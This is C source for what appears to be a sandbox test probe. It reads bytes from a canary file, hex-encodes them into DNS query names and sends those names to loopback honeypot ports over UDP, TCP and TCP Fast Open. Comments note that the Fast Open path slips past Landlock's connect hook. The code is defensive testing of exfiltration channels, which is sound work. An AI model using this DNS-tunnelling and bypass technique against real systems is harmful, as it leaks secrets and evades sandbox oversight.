/* net.dns.raw_query — catalog N03. DNS as an exfiltration channel: a hand-built query whose name carries the
 * nonce and (hex-encoded) whatever could be read of the canary, sent to the DNS honeypot on
 * 127.0.0.1:{dns_port} and to 127.0.0.1:53 (where a resolver or the harness's DNS honeypot listens), over
 * UDP (sendto and connected send) and over TCP (2-byte length prefix, RFC 1035 4.2.2; plain connect and TCP
 * Fast Open), for A, AAAA and TXT.
 * Names end in .invalid so no real resolver forwards them. UDP is fenced only by the network namespace
 * (Landlock covers TCP only). Args: dns_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t put_name(unsigned char *p, const char *name) {
    size_t o = 0;
    while (*name) {
        const char *dot = strchr(name, '.');
        size_t l = dot ? (size_t)(dot - name) : strlen(name);
        if (l > 63) l = 63;
        p[o++] = (unsigned char)l;
        memcpy(p + o, name, l);
        o += l;
        name += l;
        if (*name == '.') name++;
    }
    p[o++] = 0;
    return o;
}

static size_t build_query(unsigned char *q, const char *name, int qtype, int id) {
    memset(q, 0, 12);
    q[0] = (unsigned char)(id >> 8), q[1] = (unsigned char)id;
    q[2] = 0x01; /* RD */
    q[5] = 1;    /* QDCOUNT */
    size_t o = 12 + put_name(q + 12, name);
    q[o++] = 0, q[o++] = (unsigned char)qtype, q[o++] = 0, q[o++] = 1;
    return o;
}

int main(int argc, char **argv) {
    if (argc < 5) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    int dport = atoi(argv[1]);
    const char *nonce = argv[2];
    /* secret part of the name: hex of what the canary gave us (if anything) */
    char secret[64] = "none";
    unsigned char buf[40];
    ssize_t n = -1;
    int fd = open(argv[3], O_RDONLY);
    if (fd >= 0) { n = read(fd, buf, 30); close(fd); }
    if (n <= 0) n = pread(atoi(argv[4]), buf, 30, 0);
    if (n > 0) for (ssize_t i = 0; i < n && i < 30; i++) sprintf(secret + 2 * i, "%02x", buf[i]);
    printf("canary bytes read: %zd\n", n > 0 ? n : 0);
    char name[256];
    snprintf(name, sizeof name, "%s.%s.exfil.gauntlet.invalid", nonce, secret);
    int ports[2] = {dport, 53};
    int qtypes[3] = {1, 28, 16};
    for (int pi = 0; pi < 2; pi++) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)ports[pi]), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        for (int t = 0; t < 3; t++) {
            unsigned char q[512];
            size_t ql = build_query(q + 2, name, qtypes[t], 0x4700 + t) ;
            int s = socket(AF_INET, SOCK_DGRAM, 0);
            long r = sendto(s, q + 2, ql, 0, (struct sockaddr *)&a, sizeof a);
            printf("udp 127.0.0.1:%d qtype %d sendto: %s\n", ports[pi], qtypes[t], r >= 0 ? "SENT" : strerror(errno));
            if (r >= 0) {
                struct pollfd p = {.fd = s, .events = POLLIN};
                if (poll(&p, 1, 200) == 1) printf("  got a reply (%zd bytes)\n", recv(s, q, sizeof q, 0));
            }
            if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)
                printf("udp 127.0.0.1:%d connected send: %s\n", ports[pi], send(s, q + 2, ql, 0) >= 0 ? "SENT" : strerror(errno));
            else
                printf("udp 127.0.0.1:%d connect: %s\n", ports[pi], strerror(errno));
            close(s);
            if (t == 0) {
                q[0] = (unsigned char)(ql >> 8), q[1] = (unsigned char)ql;
                s = socket(AF_INET, SOCK_STREAM, 0);
                if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)
                    printf("tcp 127.0.0.1:%d query: %s\n", ports[pi], send(s, q, ql + 2, MSG_NOSIGNAL) >= 0 ? "SENT" : strerror(errno));
                else
                    printf("tcp 127.0.0.1:%d connect: %s\n", ports[pi], strerror(errno));
                close(s);
                /* TCP Fast Open: connect+send in one sendto, past Landlock's connect hook */
                s = socket(AF_INET, SOCK_STREAM, 0);
                printf("tcp 127.0.0.1:%d query (MSG_FASTOPEN): %s\n", ports[pi],
                       sendto(s, q, ql + 2, 0x20000000 /* MSG_FASTOPEN */ | MSG_NOSIGNAL, (struct sockaddr *)&a, sizeof a) >= 0 ? "SENT" : strerror(errno));
                close(s);
            }
        }
    }
    return 0;
}
